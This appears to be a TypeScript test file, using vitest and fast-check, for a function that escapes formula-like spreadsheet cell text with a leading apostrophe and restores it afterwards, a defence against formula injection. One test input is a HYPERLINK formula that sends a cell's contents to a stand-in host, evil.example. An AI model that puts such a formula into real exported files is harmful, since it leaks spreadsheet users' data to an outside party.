import fc from "fast-check";
import { expect, test } from "vitest";
import { neutralText, plainText } from "./formula-like-text";

test.each([
  '=HYPERLINK("//evil.example/?"&A1,"Nguyễn Thị Ánh")',
  "=1+1",
  "+84 912 345 678",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\0=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM",
  "'=1",
  "''=1",
])("%j is no formula any more, and comes back as it was", (text) => {
  const cell = neutralText(text);
  expect(cell).toBe(`'${text}`);
  expect(plainText(cell)).toBe(text);
});

test.each(["", "Nguyễn Thị Ánh", "'", "'Ánh", "H'Hen Niê", "a=b", "001234567890", "03/1955", " =1"])(
  "%j stays as it is, both ways",
  (text) => {
    expect(neutralText(text)).toBe(text);
    expect(plainText(text)).toBe(text);
  },
);

test("whatever is written is read back, and nothing written begins like a formula", () => {
  const text = fc.string({ unit: fc.constantFrom(..."'=+-@＝\t\n\0 Áa1") });
  fc.assert(
    fc.property(text, (value) => {
      const cell = neutralText(value);
      expect(plainText(cell)).toBe(value);
      expect(cell).not.toMatch(/^[=+\-@＝＋－＠\p{Cc}]/u);
    }),
    { numRuns: 2000 },
  );
});
